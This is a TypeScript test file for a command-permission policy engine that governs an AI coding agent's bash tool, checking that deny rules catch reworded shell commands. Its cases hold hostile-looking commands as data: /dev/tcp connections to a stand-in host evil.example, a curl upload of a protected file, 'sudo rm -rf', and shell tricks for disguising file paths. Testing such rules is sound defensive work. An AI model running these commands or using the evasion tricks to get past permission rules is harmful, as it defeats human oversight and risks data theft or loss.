import type { PolicyQuestion } from '@sluice/kernel';
import { tool } from '@sluice/kernel';
import { createDecider, readPolicy } from '@sluice/policy';
import { describe, expect, test } from 'vitest';
import { readCommandParts } from '../command-policy/command-parts.js';
import { defaultJudge } from '../command-policy/command-policy.js';
import { type Asker, callFacts } from './call-facts.js';

const asker: Asker = { face: 'chat', workspace: '/w', home: '/home/u' };
const bash = tool('bash_run', () => 1, { allowedModes: ['coding'] });

function factsOf(command: string, more: object = {}) {
  const question: PolicyQuestion = {
    tool: bash,
    args: { command, ...more },
    mode: 'coding',
    sessionId: 's',
    agentId: 'a',
  };
  return callFacts(question, asker, defaultJudge(), undefined);
}

/** What a file says of a command that allows everything but what one rule denies. */
async function verdictOf(rule: string, command: string): Promise<string> {
  const policy = readPolicy(`version: 1\ndefault: allow\nrules:\n  - { deny: it, ${rule} }\n`, {
    file: 'own.yaml',
    parseCommand: readCommandParts,
  });
  return createDecider(policy).decide(await factsOf(command)).verdict;
}

describe('item 5: what a rule denies does not pass by another way of saying it', () => {
  test.each([
    ['host: evil.example', 'cat < /dev/tcp/evil.example/80', 'deny'],
    ['host: evil.example', 'for x in /dev/tcp/evil.example/80; do echo S >$x; done', 'deny'],
    ['host: evil.example', "bash -c 'cat < $0' /dev/tcp/evil.example/80", 'deny'],
    ['host: evil.example', 'exec 3<>$x', 'deny'],
    ['host: evil.example', 'read y <$x', 'deny'],
    ['host: evil.example', 'for f in *.txt; do wc -l < "$f"; done', 'allow'],
    ['host: evil.example', 'npm test > "$name.log" 2>&1', 'allow'],
    ['host: evil.example', 'exec 3<>/dev/tcp/good.example/80', 'allow'],
    ['path: .vscode/tasks.json', 'cp tasks.json .vscode', 'ask'],
    ['path: .vscode/tasks.json', "sed --in-place='.vscode/*' s/a/b/ tasks.json", 'ask'],
    ['path: .vscode/tasks.json', 'tsc --outDir .vscode', 'ask'],
    ['path: .vscode/tasks.json', 'git checkout HEAD~1 .vscode/tasks.json', 'deny'],
    ['path: .vscode/tasks.json', "git checkout HEAD~1 ':(top).vscode/*.json'", 'ask'],
    ['path: keep.rc', 'cp --backup --suffix=rc a keep.', 'ask'],
    ['path: keep.rc', 'patch -z rc keep. a.diff', 'ask'],
    ['path: keep.rc', 'gunzip -S .x keep.rc.x', 'ask'],
    ['path: keep.rc', 'split -l 1 a keep.', 'ask'],
    ['path: keep.rc', '[[ keep.rc =~ (.*) ]]; cp a $BASH_REMATCH', 'ask'],
    ['path: keep.rc', 'cp a $(printf keep.%s rc)', 'ask'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's own braces.
    ['path: keep.rc', 'cp a ${x//a/b}', 'ask'],
    ['path: keep.rc', 'cp a keep.{rc,x}', 'deny'],
    ['path: "src/*.lock"', 'wget -P src http://h.example/a', 'ask'],
    ['path: "src/*.lock"', 'javac -d src A.java', 'ask'],
    ['path: "src/*.lock"', 'tar -xf a.tar', 'ask'],
    ['path: "src/*.lock"', 'unzip a.zip', 'ask'],
    ['path: "src/*.lock"', 'patch -p1 < a.diff', 'ask'],
    ['path: keep.rc', 'wc --files0-from=list', 'ask'],
    ['path: keep.rc', 'tar -cf a.tar -T list', 'ask'],
    ['path: keep.rc', "curl -T '{keep.rc,a}' http://h.example", 'deny'],
    ['path: keep.rc', 'diff -r . ../b', 'ask'],
    ['path: keep.rc', 'grep -rn x', 'ask'],
    ['path: keep.rc', 'rg -uu x', 'ask'],
    ['command: curl **', 'yarn workspace x run curl http://h.example', 'deny'],
    ['command: curl **', 'pnpm --filter x curl http://h.example', 'deny'],
    ['command: curl **', 'pnpm --filter x test', 'allow'],
    ['path: "src/*.lock"', 'tar -cf a.tar b', 'allow'],
    ['path: "src/*.lock"', 'javac -d build A.java', 'allow'],
    ['path: "src/*.lock"', 'npm test && cp a b', 'allow'],
  ])('denied %s: %s → %s', async (rule, command, verdict) => {
    expect(await verdictOf(rule, command)).toBe(verdict);
  });
});

test('more places than are kept are any place at all', async () => {
  const many = Array.from({ length: 700 }, (_, index) => `a${index}$x`).join(' ');
  expect((await factsOf(`cat ${many}`)).openPaths).toEqual(['\0']);
  expect((await factsOf('cat a$x')).openPaths).toEqual(['./a\0']);
});

test('a call has its paths from where it begins, its risk, its client and its person', async () => {
  const facts = await callFacts(
    {
      tool: bash,
      args: { command: 'rm a', cwd: 'sub' },
      mode: 'coding',
      sessionId: 's',
      agentId: 'a',
      client: 'codex',
      person: 'ann',
    },
    { ...asker, client: 'other' },
    defaultJudge(),
    undefined,
  );
  expect(facts).toMatchObject({
    tool: 'bash_run',
    face: 'chat',
    client: 'codex',
    person: 'ann',
    workspace: '/w',
    risk: 'destructive',
    readonly: false,
    paths: ['./sub', './sub/a'],
  });
});

test('P-02 a command that a tool of another program takes as words is judged as one that is a text', async () => {
  const run = tool('mcp__box__run', () => 1, { allowedModes: ['coding'] });
  const facts = (command: unknown) =>
    callFacts(
      { tool: run, args: { command }, mode: 'coding', sessionId: 's', agentId: 'a' },
      asker,
      defaultJudge(),
      undefined,
    );
  for (const command of ['sudo rm -rf "a b"', ['sudo', 'rm', '-rf', 'a b']]) {
    const { risk, paths, commands } = await facts(command);
    expect(risk).toBe('destructive');
    expect(paths).toContain('./a b');
    expect(commands).toContainEqual(['rm', '-rf', 'a b']);
  }
  expect((await facts(['bash', '-c', 'ls; rm -rf x'])).commands).toContainEqual(['rm', '-rf', 'x']);
});
